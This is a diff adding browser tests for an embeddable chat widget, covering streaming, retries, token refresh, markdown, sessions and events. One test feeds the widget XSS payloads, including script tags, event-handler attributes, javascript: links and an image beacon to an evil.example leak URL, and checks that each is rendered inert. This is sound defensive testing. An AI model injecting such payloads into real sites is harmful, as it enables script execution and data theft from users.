@@ -1,0 +1,344 @@
+// The chat against a fake API that speaks the backend's contract: streaming, stop, retry with
+// the same Idempotency-Key, 401 then a fresh token, markdown and XSS, sessions, storage, events.
+import assert from 'node:assert/strict';
+import { after, before, beforeEach, describe, test } from 'node:test';
+import { events, html, jwt, launch, openPage, startServer } from './helpers.mjs';
+
+const TOKEN = jwt('user-1');
+let server;
+let browser;
+
+before(async () => {
+  server = await startServer();
+  browser = await launch();
+  server.pages.set('/', (o) => html(`<script src="/widget/pulse-chat.js" data-api-url="${o}" async></script>`));
+});
+beforeEach(() => server.api.reset());
+after(async () => {
+  await browser?.close();
+  await server?.close();
+});
+
+const input = (page) => page.locator('pulse-chat textarea');
+const assistant = (page) => page.locator('pulse-chat [part~=assistant-message]');
+const sends = () => server.api.requests.filter((r) => r.path === '/api/chat/send');
+
+async function openChat(options = {}) {
+  const page = await openPage(browser, `${server.origin}/`, { token: options.token ?? TOKEN });
+  await page.locator('pulse-chat [part=launcher]').click();
+  await input(page).waitFor();
+  return page;
+}
+
+async function type(page, text) {
+  await input(page).fill(text);
+  await input(page).press('Enter');
+}
+
+describe('sending', () => {
+  test('the answer streams in token by token after a typing indicator', async () => {
+    server.api.reply = { deltas: ['One', ' two', ' three', ' four'], delayMs: 250 };
+    const page = await openChat();
+    await type(page, 'Count please');
+    await page.locator('pulse-chat [part~=user-message]').getByText('Count please').waitFor();
+    await page.locator('pulse-chat').getByRole('status', { name: 'Assistant is typing' }).waitFor();
+    await page.locator('pulse-chat').getByRole('button', { name: 'Stop' }).waitFor();
+    const seen = new Set();
+    await page.waitForFunction(() => document.querySelector('pulse-chat')?.shadowRoot.querySelector('pulse-chat-panel')?.shadowRoot.querySelector('.md'));
+    while (seen.size < 10) {
+      const text = (await assistant(page).last().textContent()).trim();
+      seen.add(text);
+      if (text.includes('four')) break;
+      await page.waitForTimeout(60);
+    }
+    const partial = [...seen].filter((t) => t && !t.includes('four'));
+    assert.ok(partial.some((t) => t.includes('One') && !t.includes('three')), `saw partial text: ${[...seen]}`);
+    await page.locator('pulse-chat').getByRole('button', { name: 'Send' }).waitFor();
+
+    const [req] = sends();
+    assert.equal(req.headers.accept, 'text/event-stream');
+    assert.match(req.headers['idempotency-key'], /^[0-9a-f-]{36}$/);
+    assert.equal(req.body.message, 'Count please');
+    assert.equal(req.body.session_id, undefined, 'a new chat lets the server create the session');
+    await page.context().close();
+  });
+
+  test('Shift+Enter makes a new line, Enter sends, and the input is limited to 16000 characters', async () => {
+    const page = await openChat();
+    await input(page).pressSequentially('line one');
+    await input(page).press('Shift+Enter');
+    await input(page).pressSequentially('line two');
+    assert.equal(await input(page).inputValue(), 'line one\nline two');
+    assert.equal(sends().length, 0);
+    assert.equal(await input(page).getAttribute('maxlength'), '16000');
+    await input(page).press('Enter');
+    await assistant(page).getByText('world').waitFor();
+    assert.equal(sends()[0].body.message, 'line one\nline two');
+    assert.equal(await input(page).inputValue(), '');
+    await page.context().close();
+  });
+
+  test('stop aborts the stream and keeps the partial answer marked as stopped', async () => {
+    server.api.reply = { deltas: ['Partial', ' answer', ' that', ' goes', ' on', ' and', ' on'], delayMs: 300 };
+    const page = await openChat();
+    await type(page, 'Tell me a long story');
+    await assistant(page).getByText('Partial').waitFor();
+    await page.locator('pulse-chat').getByRole('button', { name: 'Stop' }).click();
+    await assistant(page).getByText('Stopped.').waitFor();
+    await page.waitForTimeout(700);
+    const text = await assistant(page).last().textContent();
+    assert.ok(!text.includes(' on'), `stream stopped growing: ${text}`);
+    const received = await events(page, 'pulse-message-received');
+    assert.equal(received.length, 1);
+    assert.equal(received[0].detail.interrupted, true);
+    await input(page).waitFor();
+    await page.locator('pulse-chat').getByRole('button', { name: 'Send' }).waitFor();
+    await page.context().close();
+  });
+
+  test('a failed send offers a retry that reuses the same Idempotency-Key', async () => {
+    server.api.failSends = 1;
+    const page = await openChat();
+    await type(page, 'Please work');
+    await page.locator('pulse-chat [part~=user-message]').getByText('Message not sent.').waitFor();
+    const [error] = await events(page, 'pulse-error');
+    assert.equal(error.detail.code, 'UPSTREAM_ERROR');
+    await page.locator('pulse-chat').getByRole('button', { name: 'Retry' }).click();
+    await assistant(page).getByText('world').waitFor();
+    assert.equal(await page.locator('pulse-chat [part~=user-message]').getByText('Message not sent.').count(), 0);
+    const [first, second] = sends();
+    assert.equal(second.headers['idempotency-key'], first.headers['idempotency-key']);
+    assert.equal(second.body.message, 'Please work');
+    assert.equal(await page.locator('pulse-chat [part~=user-message]').count(), 1);
+
+    // The next message gets a key of its own.
+    await type(page, 'Another');
+    await page.waitForFunction(() => window.__events.filter((e) => e.type === 'pulse-message-received').length === 2);
+    assert.notEqual(sends()[2].headers['idempotency-key'], first.headers['idempotency-key']);
+    await page.context().close();
+  });
+
+  test('an error part in the stream fails the message with its code', async () => {
+    server.api.reply = { deltas: ['Hal'], delayMs: 10, error: 'UPSTREAM_TIMEOUT' };
+    const page = await openChat();
+    await type(page, 'Hello?');
+    await page.locator('pulse-chat').getByRole('button', { name: 'Retry' }).waitFor();
+    assert.equal((await events(page, 'pulse-error'))[0].detail.code, 'UPSTREAM_TIMEOUT');
+    await page.context().close();
+  });
+
+  test('a 401 asks getToken() again and retries once with the new token', async () => {
+    const fresh = jwt('user-1', 'fresh');
+    server.api.validTokens = new Set([fresh]);
+    const page = await openPage(browser, `${server.origin}/`);
+    await page.evaluate(
+      ([stale, next]) => {
+        window.__issued = [stale, next];
+        window.PulseChat.init({ getToken: () => window.__issued.shift() ?? next });
+      },
+      [TOKEN, fresh],
+    );
+    await page.evaluate(() => window.PulseChat.send('After expiry'));
+    await assistant(page).getByText('world').waitFor();
+    const auths = sends().map((r) => r.headers.authorization);
+    assert.deepEqual(auths, [`Bearer ${TOKEN}`, `Bearer ${fresh}`]);
+    assert.equal(sends()[0].headers['idempotency-key'], sends()[1].headers['idempotency-key']);
+    await page.context().close();
+  });
+
+  test('a token the API keeps refusing ends in the sign-in message, not a silent failure', async () => {
+    server.api.validTokens = new Set();
+    const page = await openChat();
+    await type(page, 'Hi');
+    await page.locator('pulse-chat').getByText('Please sign in to chat with us.').waitFor();
+    assert.equal((await events(page, 'pulse-error'))[0].detail.code, 'TOKEN_EXPIRED');
+    await page.context().close();
+  });
+});
+
+describe('markdown', () => {
+  test('lists, code, tables and links render; links open in a new tab safely', async () => {
+    server.api.reply = {
+      deltas: ['# Menu\n\n', '- Espresso\n- Latte\n\n', '```js\nconst x = 1 < 2;\n```\n\n', '| Size | Price |\n|---|---|\n| S | 3 |\n| L | 4 |\n\n', 'See [our shop](https://example.com/shop).'],
+      delayMs: 10,
+    };
+    const page = await openChat();
+    await type(page, 'Menu?');
+    const md = assistant(page).last().locator('.md');
+    await md.locator('a').waitFor();
+    assert.equal(await md.locator('li').count(), 2);
+    assert.equal(await md.locator('pre code').textContent(), 'const x = 1 < 2;');
+    assert.equal(await md.locator('table th').count(), 2);
+    assert.deepEqual(await md.locator('table td').allTextContents(), ['S', '3', 'L', '4']);
+    const link = md.locator('a');
+    assert.equal(await link.getAttribute('href'), 'https://example.com/shop');
+    assert.equal(await link.getAttribute('target'), '_blank');
+    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
+    await page.context().close();
+  });
+
+  test('XSS vectors in answers are inert', async () => {
+    server.api.reply = {
+      deltas: [
+        '<img src=x onerror="window.__xss=1">\n\n',
+        '<script>window.__xss=2</script>\n\n',
+        '<svg onload="window.__xss=3"><circle r=1 /></svg>\n\n',
+        '[click](javascript:window.__xss=4) and [data](data:text/html,<script>alert(1)</script>)\n\n',
+        '<a href="javascript:window.__xss=5">raw</a> <iframe src="javascript:window.__xss=6"></iframe>\n\n',
+        '<div onclick="window.__xss=7" style="position:fixed">styled</div> <form action="https://evil.example"><button>go</button></form>\n\n',
+        '![pixel](https://evil.example/leak?data=secret)\n\n',
+        '<details open ontoggle="window.__xss=8">x</details> <math><mi xlink:href="javascript:window.__xss=9">m</mi></math> done',
+      ],
+      delayMs: 5,
+    };
+    const page = await openChat();
+    await type(page, 'Try to hack me');
+    const md = assistant(page).last().locator('.md');
+    await md.getByText('done').waitFor();
+    assert.match(await md.textContent(), /<script>window.__xss=2<\/script>/, 'raw HTML is shown as text');
+    await page.waitForTimeout(300);
+    for (const a of await md.locator('a').all()) {
+      await a.click({ modifiers: [] }).catch(() => {});
+    }
+    await md.getByText('styled').click();
+    await page.waitForTimeout(200);
+    assert.equal(await page.evaluate(() => window.__xss), undefined);
+    const found = await page.evaluate(() => {
+      const root = document.querySelector('pulse-chat').shadowRoot.querySelector('pulse-chat-panel').shadowRoot;
+      const nodes = [...root.querySelectorAll('.md *')];
+      return {
+        tags: [...new Set(nodes.map((n) => n.localName))].sort(),
+        handlers: nodes.flatMap((n) => [...n.attributes].filter((a) => a.name.startsWith('on') || a.name === 'style').map((a) => a.name)),
+        hrefs: nodes.map((n) => n.getAttribute('href')).filter(Boolean),
+      };
+    });
+    for (const tag of ['script', 'img', 'svg', 'iframe', 'form', 'button', 'math']) assert.ok(!found.tags.includes(tag), `${tag} removed: ${found.tags}`);
+    assert.deepEqual(found.handlers, []);
+    assert.ok(found.hrefs.every((h) => /^https?:/.test(h)), `only http(s) links survive: ${found.hrefs}`);
+    assert.deepEqual(await page.evaluate(() => window.__csp), []);
+    await page.context().close();
+  });
+});
+
+describe('sessions', () => {
+  test('the chats list opens, renames and deletes sessions, and new chat starts over', async () => {
+    const coffee = server.api.addSession('Coffee beans', 4);
+    const tea = server.api.addSession('Tea delivery', 2);
+    const page = await openChat();
+    await page.locator('pulse-chat').getByRole('button', { name: 'Earlier chats' }).click();
+    const list = page.locator('pulse-chat [part=sessions]');
+    await list.getByText('Coffee beans').waitFor();
+    assert.deepEqual((await list.locator('.open').allTextContents()).map((t) => t.trim()), ['Coffee beans', 'Tea delivery']);
+    assert.match(server.api.requests.find((r) => r.path.startsWith('/api/chat/sessions?')).path, /limit=20/);
+
+    await list.getByRole('button', { name: 'Rename: Tea delivery' }).click();
+    const title = page.locator('pulse-chat').getByRole('textbox', { name: 'Chat title' });
+    await title.fill('Green tea');
+    await title.press('Enter');
+    await list.getByText('Green tea').waitFor();
+    assert.equal(server.api.sessions.find((s) => s.id === tea.id).title, 'Green tea');
+    assert.deepEqual(server.api.requests.find((r) => r.method === 'PUT').body, { title: 'Green tea' });
+
+    await list.getByRole('button', { name: 'Delete: Green tea' }).click();
+    await list.getByText('Green tea').waitFor({ state: 'detached' });
+    assert.ok(server.api.requests.some((r) => r.method === 'DELETE' && r.path === `/api/chat/sessions/${tea.id}`));
+
+    await list.getByText('Coffee beans').click();
+    await page.locator('pulse-chat').getByText('Coffee beans message 4').waitFor();
+    assert.equal(await page.locator('pulse-chat [part~=message]').count(), 4);
+    const change = await events(page, 'pulse-session-change');
+    assert.equal(change.at(-1).detail.sessionId, coffee.id);
+
+    await type(page, 'More about beans');
+    await assistant(page).getByText('world').waitFor();
+    assert.equal(sends()[0].body.session_id, coffee.id);
+
+    await page.locator('pulse-chat').getByRole('button', { name: 'New chat' }).click();
+    await page.locator('pulse-chat').getByText('Hi! How can I help you today?').waitFor();
+    assert.equal((await events(page, 'pulse-session-change')).at(-1).detail.sessionId, null);
+    await page.context().close();
+  });
+
+  test('long histories load the latest page first and earlier messages on demand', async () => {
+    const long = server.api.addSession('Long one', 60);
+    const page = await openChat();
+    await page.evaluate((id) => localStorage.setItem('pulse-chat:session:user-1', id), long.id);
+    await page.reload();
+    await page.locator('pulse-chat [part=launcher]').click();
+    await page.locator('pulse-chat').getByText('Long one message 60').waitFor();
+    assert.equal(await page.locator('pulse-chat [part~=message]').count(), 50);
+    await page.locator('pulse-chat').getByRole('button', { name: 'Show earlier messages' }).click();
+    await page.locator('pulse-chat').getByText('Long one message 1', { exact: true }).waitFor();
+    assert.equal(await page.locator('pulse-chat [part~=message]').count(), 60);
+    const texts = (await page.locator('pulse-chat [part~=message]').allTextContents()).map((t) => t.trim());
+    assert.match(texts[0], /message 1$/);
+    assert.match(texts[59], /message 60$/);
+    await page.context().close();
+  });
+
+  test('the current session is remembered per user across reloads; the token never is', async () => {
+    const page = await openChat();
+    await type(page, 'Remember me');
+    await assistant(page).getByText('world').waitFor();
+    const sessionId = server.api.sessions[0].id;
+    const stored = await page.evaluate(() => ({ ...localStorage }));
+    assert.deepEqual(stored, { 'pulse-chat:session:user-1': sessionId });
+    const everywhere = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href]));
+    assert.ok(!everywhere.includes(TOKEN));
+    assert.ok(server.api.requests.every((r) => !r.path.includes(TOKEN)), 'token never in a URL');
+
+    await page.reload();
+    await page.locator('pulse-chat [part=launcher]').click();
+    await page.locator('pulse-chat').getByText('Remember me').waitFor();
+    assert.ok(server.api.requests.some((r) => r.path === `/api/chat/sessions/${sessionId}?limit=50`));
+
+    // Another user on the same browser does not get it.
+    server.api.validTokens.add(jwt('user-2'));
+    await page.evaluate((t) => window.PulseChat.setToken(t), jwt('user-2'));
+    const page2 = await openChat({ token: jwt('user-2') });
+    await page2.locator('pulse-chat').getByText('Hi! How can I help you today?').waitFor();
+    assert.equal(await page2.locator('pulse-chat').getByText('Remember me').count(), 0);
+    await page.context().close();
+    await page2.context().close();
+  });
+});
+
+describe('host events and the bubble', () => {
+  test('message events carry details, and an answer arriving while closed raises the unread badge', async () => {
+    server.api.reply = { deltas: ['Slow', ' reply'], delayMs: 300 };
+    const page = await openChat();
+    await type(page, 'Ping');
+    await page.keyboard.press('Escape');
+    await page.waitForFunction(() => window.__events.some((e) => e.type === 'pulse-message-received'));
+    const badge = page.locator('pulse-chat [part=badge]');
+    assert.equal((await badge.textContent()).trim(), '1');
+    assert.match(await page.locator('pulse-chat [part=launcher]').getAttribute('aria-label'), /1 new/);
+
+    const [sent] = await events(page, 'pulse-message-sent');
+    assert.equal(sent.detail.text, 'Ping');
+    assert.equal(sent.detail.idempotencyKey, sends()[0].headers['idempotency-key']);
+    const [received] = await events(page, 'pulse-message-received');
+    assert.equal(received.detail.text, 'Slow reply');
+    assert.equal(received.detail.sessionId, server.api.sessions[0].id);
+    assert.match(received.detail.messageId, /^msg_/);
+    assert.equal(received.detail.interrupted, false);
+    const [change] = await events(page, 'pulse-session-change');
+    assert.equal(change.detail.sessionId, server.api.sessions[0].id);
+
+    await page.locator('pulse-chat [part=launcher]').click();
+    await badge.waitFor({ state: 'hidden' });
+    await page.context().close();
+  });
+
+  test('a host can veto a message through the cancelable pulse-request-send event', async () => {
+    const page = await openChat();
+    await page.evaluate(() => document.addEventListener('pulse-request-send', (e) => e.detail.text.includes('secret') && e.preventDefault()));
+    await type(page, 'my secret');
+    await page.waitForTimeout(200);
+    assert.equal(sends().length, 0);
+    await type(page, 'fine');
+    await assistant(page).getByText('world').waitFor();
+    assert.equal(sends().length, 1);
+    await page.context().close();
+  });
+});
